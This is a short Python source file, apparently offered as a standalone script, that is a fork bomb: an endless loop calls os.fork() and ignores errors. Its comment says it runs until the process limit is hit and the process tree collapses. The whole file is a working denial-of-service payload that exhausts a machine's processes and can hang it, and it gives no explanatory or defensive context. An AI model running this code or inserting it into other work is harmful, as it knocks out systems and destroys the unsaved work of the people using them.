# Forks for ever. Ends at the limit of processes and then of time; the whole tree goes.
# SPDX-License-Identifier: MIT
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
